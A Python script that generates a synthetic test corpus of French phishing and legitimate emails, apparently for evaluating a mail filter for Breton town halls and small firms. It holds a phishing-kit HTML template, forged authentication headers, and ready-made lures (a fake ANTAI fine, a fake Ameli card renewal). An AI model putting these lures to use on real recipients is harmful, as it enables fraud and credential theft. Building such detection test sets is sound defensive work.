"""Blind set 25: reported mail of Breton town halls, schools, associations and small firms.

The recipients are the customers of an IT provider (infogérant) in Brittany,
"Breizh Infogérance" in Landerneau, which collected the messages its
customers reported (or asked about) between 2024 and 2026:

* Mairie de Pleumeur-Kerhir (Microsoft 365, mairie-pleumeur-kerhir.fr):
  accueil, secrétaire générale, comptabilité, the maire and adjoints; some
  élus also read the mairie's mail on their personal Orange/Wanadoo address;
* Menuiserie Le Floch SARL (Google Workspace, menuiserie-lefloch.bzh);
* Garage Kervella (OVH Zimbra, garage-kervella.fr);
* École Saint-Yves de Kerhir, an OGEC primary school (Google Workspace);
* the Comité des fêtes (Orange address) and the US Kerhir football club
  (Free address);
* the infogérant's own mailboxes (Microsoft 365).

Fifty attacks, almost all in French, imitate what these people really get:
ANTAI fines, Ameli/carte Vitale, impots.gouv refunds, CAF, France Travail,
URSSAF, CPF, parcel fees (Chronopost, Colissimo, La Poste, Mondial Relay),
the French banks' strong-authentication schemes (SécuriPass, Certicode,
Pass Sécurité, Sécur'Pass), telecom and energy bills, Doctolib, Vinted and
Leboncoin buyers, Crit'Air and ANTS, mairie look-alikes asking for urgent
payments, supplier bank-detail changes in hijacked threads, fake OVH/Ionos
and domain-name invoices, fake cybergendarmerie summonses, fake Microsoft
support, SharePoint/OneDrive/DocuSign/Yousign/Chorus Pro look-alikes and
genuine-service abuse, QR codes, HTML attachments and four malware droppers
(ZIP/JS, ISO/LNK, XLL, HTML smuggling).

Twenty-five legitimate messages are the hard counterpart: the same brands'
genuine notifications from their real domains, association and collectivité
newsletters full of tracking redirects (Sarbacane, Brevo, Mailchimp),
internal mairie mail, a real convocation to the conseil municipal, supplier
invoices carrying a RIB, and personal mail.

Run from /work/main:  .venv/bin/python samples/tools/build_blind25_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import re
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email import policy
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
OUT = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / "blind25_manifest.txt"

# --------------------------------------------------------------------------- recipients

MAIRIE = "mairie-pleumeur-kerhir.fr"
ACCUEIL = ("Accueil Mairie", f"accueil@{MAIRIE}")
DGS = ("Nathalie Le Goff", f"n.legoff@{MAIRIE}")
COMPTA = ("Sandrine Le Bihan", f"compta@{MAIRIE}")
MAIRE = ("Yves Quéré", f"maire@{MAIRIE}")
ADJ = ("Hervé Guillou", f"h.guillou@{MAIRIE}")
URBA = ("Service urbanisme", f"urbanisme@{MAIRIE}")
MENUIS = "menuiserie-lefloch.bzh"
GWEN = ("Gwenaëlle Le Floch", f"gwenaelle@{MENUIS}")
MCOMPTA = ("Comptabilité Le Floch", f"compta@{MENUIS}")
MCONTACT = ("Menuiserie Le Floch", f"contact@{MENUIS}")
GARAGE = "garage-kervella.fr"
KERVELLA = ("Erwan Kervella", f"erwan@{GARAGE}")
GACCUEIL = ("Garage Kervella", f"accueil@{GARAGE}")
ECOLE = "ecole-saintyves-kerhir.fr"
DIRECTION = ("Direction École Saint-Yves", f"direction@{ECOLE}")
OGEC = ("OGEC Saint-Yves", f"ogec@{ECOLE}")
COMITE = ("Comité des fêtes Kerhir", "comitedesfetes.kerhir@orange.fr")
ELU = ("Jean-Yves Morvan", "jeanyves.morvan@wanadoo.fr")
FOOT = ("US Kerhir Football", "uskerhir.foot@free.fr")
TRESOR = ("Maïwenn Tanguy", "maiwenn.tanguy@free.fr")
INFOG = "breizh-infogerance.fr"
SUPPORT = ("Support Breizh Infogérance", f"support@{INFOG}")
TECH = ("Loïc Abgrall", f"l.abgrall@{INFOG}")

PROVIDER = {  # recipient domain -> provider kind
    MAIRIE: "m365", INFOG: "m365", MENUIS: "gws", ECOLE: "gws", GARAGE: "ovh",
    "orange.fr": "orange", "wanadoo.fr": "orange", "free.fr": "free",
}

# --------------------------------------------------------------------------- small helpers


def h(seed: str, n: int = 16, alphabet: str = "0123456789abcdef") -> str:
    """Deterministic pseudo-random token of ``n`` characters from ``alphabet``."""
    out, counter = "", 0
    while len(out) < n:
        digest = hashlib.sha256(f"{seed}/{counter}".encode()).digest()
        out += "".join(alphabet[b % len(alphabet)] for b in digest)
        counter += 1
    return out[:n]


B62 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
UP = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


def tok(seed: str, n: int = 22) -> str:
    return h(seed, n, B62)


def b64tok(seed: str, nbytes: int) -> str:
    return base64.b64encode(hashlib.shake_256(seed.encode()).digest(nbytes)).decode()


def when(s: str) -> datetime:
    return datetime.strptime(s, "%Y-%m-%d %H:%M:%S %z")


def paris(d: datetime) -> datetime:
    off = 2 if 4 <= d.month <= 10 else 1
    return d.astimezone(timezone(timedelta(hours=off)))


def pacific(d: datetime) -> str:
    off = -7 if 4 <= d.month <= 10 else -8
    return format_datetime(d.astimezone(timezone(timedelta(hours=off)))) + (" (PDT)" if off == -7 else " (PST)")


def enc(s: str) -> str:
    """RFC 2047 B-encode a header text if it is not ASCII (chunks kept under 76 characters)."""
    if s.isascii():
        return s
    words, chunk = [], ""
    for ch in s:
        if len((chunk + ch).encode()) > 42:
            words.append(chunk)
            chunk = ""
        chunk += ch
    words.append(chunk)
    return "\n ".join(f"=?UTF-8?B?{base64.b64encode(w.encode()).decode()}?=" for w in words)


def addr(pair) -> str:
    name, mail = pair
    if not name:
        return mail
    if not name.isascii():
        return f"{enc(name)} <{mail}>"
    if re.search(r'[()<>@,;:\\".\[\]]', name):
        return '"' + name.replace('"', '\\"') + f'" <{mail}>'
    return f"{name} <{mail}>"


def dom(mail: str) -> str:
    return mail.rsplit("@", 1)[1].lower()


def strip(html: str) -> str:
    html = re.sub(r"<br\s*/?>", "\n", html)
    return re.sub(r"<[^>]+>", "", html).replace("&nbsp;", " ").replace("&amp;", "&")


def esc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


# --------------------------------------------------------------------------- bodies


def alt(plain: str, html: str, boundary: str, enc_: str = "quoted-printable") -> Multi:
    return Multi("alternative", boundary, [text(plain, "plain", enc_), text(html, "html", enc_)])


def mixed(body, atts: list, boundary: str) -> Multi:
    return Multi("mixed", boundary, [body, *atts])


def kit(seed, brand, color, title, paras, btn, url, foot, extra_style="", logo=None, pixel=None):
    """Phishing-kit HTML and text: a centred 600px table, a coloured header, one button."""
    logo_html = (f'<img src="{logo}" alt="{esc(brand)}" width="140" style="display:block;border:0">' if logo else
                 f'<span style="font-size:22px;font-weight:bold;color:#ffffff;font-family:Arial,sans-serif">{esc(brand)}</span>')
    body = "".join(f'<p style="margin:0 0 14px 0;font-size:14px;line-height:21px;color:#333333">{p}</p>' for p in paras)
    button = (f'<table role="presentation" cellpadding="0" cellspacing="0" style="margin:22px auto"><tr>'
              f'<td style="background:{color};border-radius:4px"><a href="{url}" target="_blank" '
              f'style="display:inline-block;padding:12px 28px;font-size:15px;color:#ffffff;text-decoration:none;'
              f'font-family:Arial,sans-serif;font-weight:bold">{btn}</a></td></tr></table>') if btn else ""
    html = f"""<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>{esc(title)}</title></head>
<body style="margin:0;padding:0;background:#f2f2f2{extra_style}">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="background:#f2f2f2"><tr><td align="center" style="padding:24px 8px">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif">
<tr><td style="background:{color};padding:18px 28px">{logo_html}</td></tr>
<tr><td style="padding:28px 28px 8px 28px">
<h1 style="font-size:19px;color:#222222;margin:0 0 18px 0">{title}</h1>
{body}{button}
</td></tr>
<tr><td style="padding:14px 28px 22px 28px;font-size:11px;line-height:16px;color:#888888;border-top:1px solid #e5e5e5">{foot}</td></tr>
</table></td></tr></table>
{f'<img src="{pixel}" width="1" height="1" alt="">' if pixel else ""}
</body></html>
"""
    plain = strip(title) + "\n\n" + "\n\n".join(strip(p) for p in paras)
    if btn:
        plain += f"\n\n{strip(btn)} : {url}"
    plain += "\n\n--\n" + strip(foot) + "\n"
    return plain, html


def outlook(paras: list[str], sig: str, quote: str = "") -> tuple[str, str]:
    """Outlook (Word engine) HTML and its text part for a person's message."""
    ps = "\n".join(f'<p class="MsoNormal">{esc(p) if p else "&nbsp;"}<o:p></o:p></p>' for p in paras)
    sg = "<br>\n".join(esc(line) for line in sig.split("\n"))
    qhtml = ""
    if quote:
        qhtml = ('<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">\n'
                 + "\n".join(f'<p class="MsoNormal">{esc(line) if line else "&nbsp;"}<o:p></o:p></p>'
                             for line in quote.split("\n")) + "\n</div>")
    html = f"""<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<style><!--
p.MsoNormal, li.MsoNormal, div.MsoNormal {{margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif;}}
span.EmailStyle17 {{mso-style-type:personal-compose;font-family:"Calibri",sans-serif;color:windowtext;}}
@page WordSection1 {{size:612.0pt 792.0pt;margin:70.85pt 70.85pt 70.85pt 70.85pt;}}
div.WordSection1 {{page:WordSection1;}}
--></style></head>
<body lang="FR" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
{ps}
<p class="MsoNormal">&nbsp;<o:p></o:p></p>
<p class="MsoNormal"><span style="font-size:9.0pt;color:#595959">{sg}</span><o:p></o:p></p>
<p class="MsoNormal">&nbsp;<o:p></o:p></p>
{qhtml}
</div>
</body>
</html>
"""
    plain = "\n".join(paras) + "\n\n" + sig + "\n" + (f"\n{quote}\n" if quote else "")
    return plain, html


def gmail(paras: list[str], quote: str = "", quote_head: str = "") -> tuple[str, str]:
    """Gmail web client text and HTML."""
    ps = "".join(f"<div>{esc(p)}</div>" if p else "<div><br></div>" for p in paras)
    plain = "\n".join(paras) + "\n"
    html = f'<div dir="ltr">{ps}</div>'
    if quote:
        plain += f"\n{quote_head}\n" + "\n".join("> " + line if line else ">" for line in quote.split("\n")) + "\n"
        qh = esc(quote).replace("\n", "<br>")
        html += (f'<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">{esc(quote_head)}<br></div>'
                 f'<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);'
                 f'padding-left:1ex">{qh}</blockquote></div>')
    return plain, html + "\n"


def news(org, color, intro, items, foot, unsub, pixel):
    """Newsletter HTML/text: header, intro, article blocks with links (already tracked), footer."""
    blocks = "".join(
        f'<tr><td style="padding:14px 30px;border-bottom:1px solid #eeeeee"><h2 style="font-size:17px;color:{color};margin:0 0 8px 0">{esc(t)}</h2>'
        f'<p style="font-size:14px;line-height:21px;color:#333333;margin:0 0 8px 0">{esc(d)}</p>'
        f'<a href="{u}" style="color:{color};font-weight:bold;font-size:14px">{esc(lbl)}</a></td></tr>\n'
        for t, d, lbl, u in items)
    html = f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0"><title>{esc(org)}</title></head>
<body style="margin:0;padding:0;background-color:#f4f4f4">
<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f4f4f4"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" style="font-family:Helvetica,Arial,sans-serif">
<tr><td style="background:{color};padding:22px 30px;color:#ffffff;font-size:22px;font-weight:bold">{esc(org)}</td></tr>
<tr><td style="padding:20px 30px;font-size:14px;line-height:21px;color:#333333">{esc(intro)}</td></tr>
{blocks}<tr><td style="padding:18px 30px;font-size:11px;line-height:16px;color:#777777">{foot}<br><br>
<a href="{unsub}" style="color:#777777">Se désinscrire</a></td></tr>
</table></td></tr></table>
<img src="{pixel}" width="1" height="1" alt="" style="display:block;border:0">
</body></html>
"""
    plain = f"{org}\n\n{intro}\n\n" + "".join(f"{t}\n{d}\n{lbl} : {u}\n\n" for t, d, lbl, u in items)
    plain += strip(foot) + f"\n\nSe désinscrire : {unsub}\n"
    return plain, html


def qr_pdf(lines: list[str], url: str, title: str) -> bytes:
    """A one-page PDF with text lines and a QR code image of ``url`` (as quishing PDFs do)."""
    from io import BytesIO

    from PIL import Image

    img = Image.open(BytesIO(files.qr_png(url))).convert("L")
    raw = zlib.compress(img.tobytes())
    content = ["BT", "/F1 12 Tf", "16 TL", "56 780 Td"] + [f"({files._pdf_escape(x)}) Tj T*" for x in lines] + ["ET"]
    content += ["q 180 0 0 180 207 330 cm /Im1 Do Q"]
    objs = files.image_page("\n".join(content).encode("latin-1"), raw, img.width, img.height, "FlateDecode")
    objs.append(f"<< /Title ({files._pdf_escape(title)}) /Producer (Skia/PDF m120) >>".encode())
    return files.pdf_file(objs, 7)


def png(name: str, data: bytes, cid: str) -> Leaf:
    return attachment("image/png", name, data, inline=True, cid=cid)


def pdf_att(name: str, data: bytes) -> Leaf:
    return attachment("application/pdf", name, data)


# --------------------------------------------------------------------------- transport headers


def dkim(d: str, s: str, t: datetime, seed: str, hdrs: str = "from:to:subject:date:message-id:mime-version:content-type") -> str:
    b = b64tok(seed + d + "b", 256)
    folded = "\n\t ".join(b[i:i + 70] for i in range(0, len(b), 70))
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d}; s={s};\n\tt={int(t.timestamp())}; "
            f"h={hdrs};\n\tbh={b64tok(seed + d + 'bh', 32)};\n\tb={folded}")


def auth_lines(kind: str, m: dict, t: datetime) -> list[str]:
    """The receiving provider's top Received line and its authentication verdict headers."""
    ip, helo = m["ip"], m["helo"]
    mf = m["mailfrom"]
    mfd = dom(mf) if "@" in mf else mf
    fd = dom(m["frm"][1])
    spf, dk, dm = m.get("spf", "pass"), m.get("dkim", "pass"), m.get("dmarc", "pass")
    dkd = m.get("dkim_d", fd)
    to = m["to"][1]
    seed = m["slug"]
    rt = t + timedelta(seconds=m.get("lag", 3))
    if kind == "m365":
        fe = "AM4PEPF0002" + h(seed + "fe", 4, UP)
        rec = (f"Received: from {helo} ({ip}) by {fe}.mail.protection.outlook.com\n (2603:10a6:20b:{h(seed, 3)}::{h(seed + 'z', 2)}) "
               f"with Microsoft SMTP Server (version=TLS1_3,\n cipher=TLS_AES_256_GCM_SHA384) id 15.20.{8300 + int(h(seed + 'v', 2), 16)}.{int(h(seed + 'w', 1), 16) + 5} via Frontend\n"
               f" Transport; {format_datetime(rt.astimezone(timezone.utc))}")
        dktxt = {"pass": f"dkim=pass (signature was verified) header.d={dkd}",
                 "fail": f"dkim=fail (body hash did not verify) header.d={dkd}",
                 "none": "dkim=none (message not signed) header.d=none"}[dk]
        act = {"pass": "action=none", "fail": "action=oreject" if m.get("policy") == "reject" else "action=quarantine",
               "none": "action=none", "bestguesspass": "action=none"}[dm]
        comp = {"pass": "compauth=pass reason=100", "fail": "compauth=fail reason=000",
                "none": "compauth=softpass reason=201", "bestguesspass": "compauth=pass reason=109"}[dm]
        spftxt = {"pass": f"spf=pass (sender IP is {ip})", "fail": f"spf=fail (sender IP is {ip})",
                  "softfail": f"spf=softfail (sender IP is {ip})", "none": f"spf=none (sender IP is {ip})"}[spf]
        ar = (f"Authentication-Results: {spftxt}\n smtp.mailfrom={mfd}; {dktxt};dmarc={dm}\n {act} header.from={fd};{comp}")
        rs = {"pass": "Pass (protection.outlook.com: domain of {d} designates {ip} as permitted sender)",
              "fail": "Fail (protection.outlook.com: domain of {d} does not designate {ip} as permitted sender)",
              "softfail": "SoftFail (protection.outlook.com: domain of transitioning {d} discourages use of {ip} as permitted sender)",
              "none": "None (protection.outlook.com: {d} does not designate permitted sender hosts)"}[spf].format(d=mfd, ip=ip)
        return [rec, ar, f"Received-SPF: {rs}\n receiver=protection.outlook.com; client-ip={ip}; helo={helo};"]
    if kind == "gws":
        gid = f"{h(seed + 'g1', 10)}si{h(seed + 'g2', 9, '0123456789')}"
        rec = (f"Received: from {helo} ({helo}. [{ip}])\n        by mx.google.com with ESMTPS id {gid}.{rt.year}.{rt.month:02d}.{rt.day:02d}.{rt.hour:02d}.{rt.minute:02d}.{rt.second:02d}\n"
               f"        for <{to}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {pacific(rt)}")
        spfw = {"pass": f"pass (google.com: domain of {mf} designates {ip} as permitted sender)",
                "fail": f"fail (google.com: domain of {mf} does not designate {ip} as permitted sender)",
                "softfail": f"softfail (google.com: domain of transitioning {mf} does not designate {ip} as permitted sender)",
                "none": f"neutral (google.com: {ip} is neither permitted nor denied by best guess record for domain of {mf})"}[spf]
        lines = []
        if dk == "pass":
            lines.append(f"dkim=pass header.i=@{dkd} header.s={m.get('sel', 's1')} header.b={b64tok(seed + 'hb', 6)[:8]}")
        elif dk == "fail":
            lines.append(f"dkim=fail header.i=@{dkd} header.s={m.get('sel', 's1')} header.b={b64tok(seed + 'hb', 6)[:8]}")
        lines.append(f"spf={spfw} smtp.mailfrom={mf}")
        pol = m.get("policy", "none").upper()
        if dm != "none":
            lines.append(f"dmarc={'pass' if dm == 'bestguesspass' else dm} (p={pol} sp={pol} dis={'REJECT' if dm == 'fail' and pol == 'REJECT' else 'NONE'}) header.from={fd}")
        ar = "Authentication-Results: mx.google.com;\n       " + ";\n       ".join(lines)
        return [rec, f"Received-SPF: {spfw} client-ip={ip};", ar]
    host = {"ovh": f"mx{int(h(seed, 1), 16) % 3 + 1}.mail.ovh.net", "orange": f"opmta1m{int(h(seed, 2), 16) % 30 + 10:02d}.mail.orange.fr",
            "free": f"mx1-g{int(h(seed, 2), 16) % 20 + 10}.free.fr"}[kind]
    fr = format_datetime(paris(rt))
    if kind == "orange":
        rec = f"Received: from {helo} ([{ip}])\n\tby {host} with ESMTP id {tok(seed + 'or', 15)}\n\tfor <{to}>; {fr}"
    else:
        rec = (f"Received: from {helo} ({helo} [{ip}])\n\tby {host} (Postfix) with ESMTPS id {h(seed + 'pf', 10, UP)}\n"
               f"\tfor <{to}>; {fr}")
    parts = [f"spf={spf} smtp.mailfrom={mf}"]
    parts.append(f"dkim={dk} header.d={dkd}" if dk != "none" else "dkim=none")
    parts.append(f"dmarc={'pass' if dm == 'bestguesspass' else dm}"
                 + (f" (p={m['policy']} dis={'reject' if m['policy'] == 'reject' else 'none'})" if dm == "fail" and m.get("policy") else "")
                 + f" header.from={fd}")
    return [rec, f"Authentication-Results: {host};\n\t" + ";\n\t".join(parts)]


def build(m: dict) -> bytes:
    t = when(m["date"])
    kind = PROVIDER[dom(m["to"][1])]
    top = auth_lines(kind, m, t)
    for text_, secs in m.get("hops", []):
        stamp = t + timedelta(seconds=secs)
        top.append(text_.replace("{t}", format_datetime(stamp.astimezone(timezone.utc))).replace("{tl}", format_datetime(stamp)))
    if m.get("dkim_sig", m.get("dkim", "pass") != "none"):
        for d_, s_ in m.get("sigs", [(m.get("dkim_d", dom(m["frm"][1])), m.get("sel", "s1"))]):
            top.append(dkim(d_, s_, t, m["slug"]))
    top.append(f"Return-Path: <{m['mailfrom']}>" if "@" in m["mailfrom"] else f"Return-Path: <bounce@{m['mailfrom']}>")
    own = [f"From: {addr(m['frm'])}"]
    if m.get("sender"):
        own.append(f"Sender: {m['sender']}")
    if m.get("reply_to"):
        own.append(f"Reply-To: {addr(m['reply_to'])}")
    tos = m.get("to_line") or addr(m["to"])
    own.append(f"To: {tos}")
    if m.get("cc"):
        own.append("Cc: " + ",\n\t".join(addr(c) for c in m["cc"]))
    own.append(f"Subject: {enc(m['subject'])}")
    own.append(f"Date: {format_datetime(t)}")
    own.append(f"Message-ID: {m['mid']}")
    has_att = isinstance(m["body"], Multi) and m["body"].subtype == "mixed"
    own.extend(x.replace("X-MS-Has-Attach: ", "X-MS-Has-Attach: yes") if has_att and x == "X-MS-Has-Attach: " else x
               for x in m.get("xh", []))
    own.append("MIME-Version: 1.0")
    return message("\n".join(top + own), m["body"])


# --------------------------------------------------------------------------- sender profiles


def vps(seed, domain, ip, helo=None, mailer="PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)", sel="default"):
    """A kit mailer on a rented server for a freshly registered domain (SPF/DKIM/DMARC of its own pass)."""
    return dict(ip=ip, helo=helo or f"mail.{domain}", mailfrom=f"bounce@{domain}", dkim_d=domain, sel=sel,
                mid=f"<{tok(seed, 32)}@{domain}>", xh=[f"X-Mailer: {mailer}"] if mailer else [])


def gmail_src(seed, user):
    n = int(h(seed, 2), 16) % 200 + 20
    host = ["wr1", "wm1", "ej1", "lf1", "pj1"][n % 5]
    return dict(ip=f"209.85.{[221, 128, 218, 167, 208][n % 5]}.{n}", helo=f"mail-{host}-f{n}.google.com", mailfrom=user,
                dkim_d="gmail.com", sel="20230601", policy="none",
                hops=[(f"Received: by 2002:a05:{h(seed, 4)}:{h(seed + 'a', 3)}:b0:{h(seed + 'b', 3)}:{h(seed + 'c', 4)} with SMTP id "
                       f"{tok(seed + 'id', 10)}-{h(seed + 'e', 5)}{h(seed + 'f', 3)};\n        {{tl}}", -1)],
                mid=f"<CA{tok(seed + 'm', 4)}{tok(seed + 'n', 38)}@mail.gmail.com>")


def m365_src(seed, domain, tz_host="PAXP190MB"):
    box = f"{tz_host}{int(h(seed, 4), 16) % 9000 + 1000}"
    full = f"{box}.EURP190.PROD.OUTLOOK.COM"
    n = int(h(seed + "ip", 2), 16)
    return dict(ip=f"40.107.{[20, 22, 103, 105, 247][n % 5]}.{n % 250 + 3}",
                helo=f"EUR0{n % 5 + 1}-{['AM6', 'DB8', 'VI1', 'HE1', 'DB5'][n % 5]}-obe.outbound.protection.outlook.com",
                mailfrom=None, dkim_d=domain, sel="selector1",
                hops=[(f"Received: from {full}\n ([fe80::{h(seed, 4)}:{h(seed + 'q', 4)}:{h(seed + 'r', 4)}:{h(seed + 's', 4)}]) by {full}\n"
                       f" ([fe80::{h(seed, 4)}:{h(seed + 'q', 4)}:{h(seed + 'r', 4)}:{h(seed + 's', 4)}%7]) with mapi id 15.20.8466.{int(h(seed + 't', 2), 16) % 40 + 10:03d};\n {{t}}", -1)],
                mid=f"<{box}{h(seed + 'mid', 24).upper()}@{full}>",
                xh=[f"Thread-Index: {b64tok(seed + 'ti', 22)}", "X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: ", "Content-Language: fr-FR"])


def outlookcom_src(seed, user):
    n = int(h(seed + "ip", 2), 16)
    box = f"AS8P189MB{int(h(seed, 4), 16) % 9000 + 1000}"
    return dict(ip=f"40.92.{n % 60 + 40}.{n % 250 + 3}", helo=f"EUR0{n % 5 + 1}-VI1-obe.outbound.protection.outlook.com",
                mailfrom=user, dkim_d=dom(user), sel="selector1", policy="none",
                mid=f"<{box}{h(seed + 'mid', 24).upper()}@{box}.EURP189.PROD.OUTLOOK.COM>",
                xh=["X-MS-Has-Attach: ", "Content-Language: fr-FR"])


def orange_src(seed, user):
    n = int(h(seed, 2), 16) % 200 + 20
    return dict(ip=f"80.12.242.{n}", helo="smtp.smtpout.orange.fr", mailfrom=user, dkim_d=dom(user), sel="t20230301",
                mid=f"<{int(h(seed, 6), 16)}.{int(h(seed + 'b', 4), 16)}.{1700000000000 + int(h(seed + 'c', 8), 16) % 99999999999}"
                    f".JavaMail.open-xchange@opme11oxm{n % 40 + 10}nd1.rouen.francetelecom.fr>",
                xh=["X-Mailer: Open-Xchange Mailer v7.10.6-Rev58", "X-Originating-Client: open-xchange-appsuite"])


def free_src(seed, user):
    n = int(h(seed, 2), 16) % 8 + 1
    return dict(ip=f"212.27.42.{n}", helo=f"smtp{n}-g21.free.fr", mailfrom=user, dkim_d="free.fr", sel="smtp-20201208",
                mid=f"<{int(h(seed, 6), 16)}.{int(h(seed + 'b', 6), 16)}.{1700000000000 + int(h(seed + 'c', 8), 16) % 99999999999}"
                    f".JavaMail.root@zimbra{n + 60}-e{n + 8}.priv.proxad.net>",
                xh=["X-Mailer: Zimbra 8.8.15_GA_4652 (ZimbraWebClient - FF133 (Linux)/8.8.15_GA_4652)",
                    f"X-Originating-IP: [{int(h(seed + 'x', 2), 16) % 200 + 20}.{int(h(seed + 'y', 2), 16)}.112.{int(h(seed + 'z', 2), 16) % 250 + 2}]"])


def ovh_src(seed, domain):
    n = int(h(seed, 2), 16)
    host = f"mo{n % 900 + 100}.mail-out.ovh.net"
    return dict(ip=f"178.32.{n % 120 + 100}.{n % 250 + 3}", helo=host, mailfrom=None, dkim_d=domain, sel="ovhmo-selector-1",
                hops=[(f"Received: from mxplan{n % 9 + 1}.mail.ovh.net (unknown [51.{n % 60 + 30}.{n % 200 + 20}.{n % 240 + 9}])\n"
                       f"\tby {host} (Postfix) with ESMTPS id 4{h(seed + 'id', 10, UP)};\n\t{{tl}}", -1)],
                mid=f"<{h(seed + 'a', 8)}-{h(seed + 'b', 4)}-{h(seed + 'c', 4)}-{h(seed + 'd', 4)}-{h(seed + 'e', 12)}@{domain}>",
                xh=[f"X-Ovh-Tracer-Id: {int(h(seed + 't', 10), 16) % 10**19}", f"X-Originating-IP: [2a01:cb00:{h(seed + 'o', 4)}:{h(seed + 'p', 3)}::{h(seed + 'q', 2)}]"])


MESSAGES: list[dict] = []


def add(src=None, **m):
    """Register a message: ``src`` is a sender profile; its headers and hops come before the message's own."""
    src = dict(src or {})
    for key in ("xh", "hops"):
        if key in m and key in src:
            m[key] = src[key] + m[key]
    full = {**src, **m}
    if not full.get("mailfrom"):
        full["mailfrom"] = full["frm"][1]
    MESSAGES.append(full)


# ============================================================================ ATTACKS


# --- 1. ANTAI fine from a look-alike, Cloudflare Pages landing
_u = f"https://antai-avis-paiement.pages.dev/amende/?ref=FR{h('antai', 10, UP)}&c=2K45{h('antai2', 6, UP)}"
_p, _h = kit("antai", "ANTAI", "#000091", "Avis de contravention – paiement en attente", [
    "Madame, Monsieur,",
    "Sauf erreur de notre part, l'avis de contravention n° <b>2K45 8816 3307</b> relatif à une infraction constatée le "
    "<b>18/01/2025</b> par un dispositif de contrôle automatisé reste à ce jour <b>impayé</b>.",
    "Afin d'éviter la majoration de l'amende forfaitaire de <b>35,00 €</b> à <b>75,00 €</b> et l'émission d'un titre "
    "exécutoire, nous vous invitons à régler le montant dû avant le <b>14/02/2025</b>.",
    "Le paiement s'effectue de manière sécurisée sur notre service en ligne.",
], "Payer mon amende", _u,
    "Agence Nationale de Traitement Automatisé des Infractions – CS 41101 – 35911 Rennes Cedex 9<br>"
    "Ce message vous est adressé automatiquement, merci de ne pas y répondre.")
add(vps("antai", "antai-paiement-amende.fr", "193.36.118.44"),
    slug="antai-amende-pages-dev", cat="phishing", kind="phish",
    desc="Fake ANTAI unpaid-fine notice from the look-alike antai-paiement-amende.fr (its own SPF/DKIM pass); the pay button leads to a Cloudflare Pages card-harvesting page.",
    date="2025-02-06 07:41:12 +0100", to=ELU, frm=("ANTAI - Service Amendes", "avis@antai-paiement-amende.fr"),
    subject="Rappel : avis de contravention n° 2K4588163307 non réglé", body=alt(_p, _h, "b1_=_antai_8c2f"))

# --- 2. Ameli carte Vitale through a compromised German business mailbox, bit.ly to WordPress
_p = ("Assurance Maladie\n\nBonjour,\n\nVotre carte Vitale arrive à expiration. Pour continuer à bénéficier du "
      "remboursement de vos soins sans avance de frais, vous devez commander votre nouvelle carte Vitale avant le "
      "30/09/2024.\n\nLa commande est gratuite, seuls des frais d'envoi de 1,49 € vous seront demandés.\n\n"
      "Commander ma carte : https://bit.ly/ameli-vitale-2024\n\nL'Assurance Maladie\nCeci est un message automatique.\n")
_h = ('<html><body style="font-family:Arial;font-size:14px;color:#1a1a1a">'
      '<div style="max-width:560px;margin:auto;border:1px solid #dcdcdc">'
      '<div style="background:#0c419a;color:#fff;padding:14px 20px;font-size:20px"><b>ameli</b> L\'Assurance Maladie</div>'
      '<div style="padding:20px"><p>Bonjour,</p><p>Votre <b>carte Vitale</b> arrive à expiration. Pour continuer à bénéficier du '
      'remboursement de vos soins sans avance de frais, vous devez commander votre nouvelle carte Vitale avant le <b>30/09/2024</b>.</p>'
      '<p>La commande est gratuite, seuls des frais d\'envoi de 1,49 € vous seront demandés.</p>'
      '<p style="text-align:center"><a href="https://bit.ly/ameli-vitale-2024" style="background:#0c419a;color:#fff;padding:11px 24px;'
      'text-decoration:none;border-radius:3px">Commander ma carte Vitale</a></p>'
      '<p style="font-size:11px;color:#777">L\'Assurance Maladie – Ceci est un message automatique, merci de ne pas y répondre.</p>'
      '</div></div></body></html>\n')
add(dict(ip="85.13.147.60", helo="dd41822.kasserver.com", mailfrom="info@kleinschmidt-haustechnik.de", dkim_d="kleinschmidt-haustechnik.de",
         sel="kas202308151044", mid=f"<{h('amv', 32)}@kleinschmidt-haustechnik.de>", xh=["X-Mailer: Microsoft Outlook 16.0"],
